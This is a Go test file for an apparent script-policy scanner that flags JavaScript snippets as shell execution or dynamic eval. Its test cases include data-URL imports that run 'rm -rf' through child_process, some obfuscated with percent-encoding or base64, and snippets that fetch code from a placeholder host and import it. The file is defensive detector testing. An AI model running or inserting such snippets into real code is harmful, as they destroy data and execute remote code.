package script_test

import (
	"testing"

	"github.com/sluice-project/sluice/policy/script"
)

func TestProgramsInAddresses(t *testing.T) {
	for text, want := range map[string]string{
		`import("data:text/javascript,require('child_process').execSync('rm -rf /x')")`:                  script.Shell,
		`import("data:text/javascript,require(%22child_process%22).execSync(%22rm -rf /x%22)")`:          script.Shell,
		`import("data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAteCcp")`: script.Shell,
		`fetch("https://a.example").then(r => r.text()).then(t => import("data:text/javascript," + t))`:  script.Eval,
		`import("data:text/javascript;base64," + btoa(await (await fetch("https://a.example")).text()))`: script.Eval,
		`import("DATA:text/javascript," + process.argv[2])`:                                              script.Eval,
		`import("./a.mjs")`: "",
		`import("data:text/javascript,export default 1")`: "",
		`import(name)`: "",
		`fetch("https://a.example").then(r => r.json()).then(j => console.log(j))`: "",
	} {
		got := ""
		for _, u := range script.Read(text).Uses {
			if u.What == script.Shell || u.What == script.Eval {
				got = u.What
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}
